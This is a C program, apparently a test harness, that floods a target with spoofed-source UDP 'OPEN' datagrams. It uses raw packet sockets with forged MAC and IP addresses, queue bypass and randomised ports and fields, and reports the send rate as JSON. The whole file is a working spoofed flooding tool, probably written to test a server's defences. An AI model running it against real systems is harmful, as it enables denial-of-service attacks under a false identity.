/* SPDX-License-Identifier: Apache-2.0
 *
 * An attacker who sends OPENs as fast as asked, from addresses that are not his, out of one Ethernet device:
 *     flood DEVICE TARGET_MAC TARGET_IP TARGET_PORT SPOOFED_MAC SPOOFED_IP SECONDS RATE OPEN_FILE
 * OPEN_FILE holds one genuine OPEN. Of four datagrams one is that OPEN again, one has another token, one another
 * session id, one another MAC; each comes from another port. Prints what was sent as JSON.
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <linux/if_packet.h>
#include <net/ethernet.h>
#include <net/if.h>
#include <netinet/ip.h>
#include <netinet/udp.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>

enum {
    BATCH = 64,
    OPEN_BYTES = 136,
    HEAD = sizeof(struct ether_header) + sizeof(struct iphdr) + sizeof(struct udphdr)
};

static uint8_t frames[BATCH][HEAD + OPEN_BYTES];
static uint64_t random_state = 88172645463325252u;

static uint64_t draw(void) /* xorshift64*, Marsaglia 2003 */
{
    random_state ^= random_state >> 12;
    random_state ^= random_state << 25;
    random_state ^= random_state >> 27;
    return random_state * UINT64_C(2685821657736338717);
}

static void mac_of(const char *text, uint8_t *out)
{
    if (sscanf(text, "%hhx:%hhx:%hhx:%hhx:%hhx:%hhx", out, out + 1, out + 2, out + 3, out + 4, out + 5) != 6)
        exit(2);
}

static uint16_t ip_checksum(const void *head)
{
    const uint16_t *words = head;
    uint32_t sum = 0;
    for (int i = 0; i < 10; i++)
        sum += words[i];
    sum = (sum & 0xffff) + (sum >> 16);
    return (uint16_t) ~(sum + (sum >> 16));
}

static uint64_t now_us(void)
{
    struct timespec t;
    clock_gettime(CLOCK_MONOTONIC, &t);
    return (uint64_t)t.tv_sec * 1000000 + (uint64_t)t.tv_nsec / 1000;
}

static void prepare(char **argv, const uint8_t *open)
{
    uint8_t head[HEAD] = {0};
    struct ether_header *eth = (void *)head;
    struct iphdr ip = {.version = 4, .ihl = 5, .ttl = 64, .protocol = IPPROTO_UDP};
    struct udphdr udp = {.dest = htons((uint16_t)atoi(argv[4])), .len = htons(sizeof(udp) + OPEN_BYTES)};
    mac_of(argv[2], eth->ether_dhost);
    mac_of(argv[5], eth->ether_shost);
    eth->ether_type = htons(ETHERTYPE_IP);
    ip.tot_len = htons(sizeof(ip) + sizeof(udp) + OPEN_BYTES);
    ip.saddr = inet_addr(argv[6]);
    ip.daddr = inet_addr(argv[3]);
    ip.check = ip_checksum(&ip);
    memcpy(head + sizeof(*eth), &ip, sizeof(ip));
    memcpy(head + sizeof(*eth) + sizeof(ip), &udp, sizeof(udp)); /* UDP checksum 0: none (RFC 768) */
    for (int i = 0; i < BATCH; i++) {
        memcpy(frames[i], head, HEAD);
        memcpy(frames[i] + HEAD, open, OPEN_BYTES);
    }
}

static void vary(uint64_t n)
{
    static const size_t at[] = {0, 72, 4, 120}; /* nothing; the token's random; the session id; the MAC */
    for (int i = 0; i < BATCH; i++, n++) {
        uint16_t port = htons((uint16_t)(1024 + draw() % 64000));
        memcpy(frames[i] + HEAD - sizeof(struct udphdr), &port, sizeof(port));
        if (at[n % 4] != 0) {
            uint64_t value = draw();
            memcpy(frames[i] + HEAD + at[n % 4], &value, sizeof(value));
        }
    }
}

int main(int argc, char **argv)
{
    uint8_t open[OPEN_BYTES];
    FILE *f = argc == 10 ? fopen(argv[9], "rb") : NULL;
    if (f == NULL || fread(open, 1, OPEN_BYTES, f) != OPEN_BYTES)
        return 2;
    fclose(f);
    int fd = socket(AF_PACKET, SOCK_RAW, 0);
    struct sockaddr_ll to = {.sll_family = AF_PACKET, .sll_ifindex = (int)if_nametoindex(argv[1])};
    int on = 1; /* no queue between us and the device */
    if (fd < 0 || setsockopt(fd, SOL_PACKET, PACKET_QDISC_BYPASS, &on, sizeof(on)) != 0 ||
        bind(fd, (struct sockaddr *)&to, sizeof(to)) != 0)
        return 1;
    prepare(argv, open);
    struct mmsghdr messages[BATCH] = {0};
    struct iovec parts[BATCH];
    for (int i = 0; i < BATCH; i++) {
        parts[i] = (struct iovec){frames[i], sizeof(frames[i])};
        messages[i].msg_hdr = (struct msghdr){.msg_iov = &parts[i], .msg_iovlen = 1};
    }
    double seconds = atof(argv[7]), rate = atof(argv[8]);
    uint64_t began = now_us(), end = began + (uint64_t)(seconds * 1e6), now, sent = 0;
    while ((now = now_us()) < end) {
        if ((double)sent >= (double)(now - began) * rate / 1e6) {
            nanosleep(&(struct timespec){.tv_nsec = 200000}, NULL);
            continue;
        }
        vary(sent);
        int n = sendmmsg(fd, messages, BATCH, 0);
        sent += n > 0 ? (uint64_t)n : 0;
    }
    double took = (double)(now - began) / 1e6;
    printf("{\"sent\": %llu, \"bytes\": %llu, \"seconds\": %.2f, \"rate_per_s\": %.0f}\n", (unsigned long long)sent,
           (unsigned long long)sent * OPEN_BYTES, took, (double)sent / took);
    return 0;
}
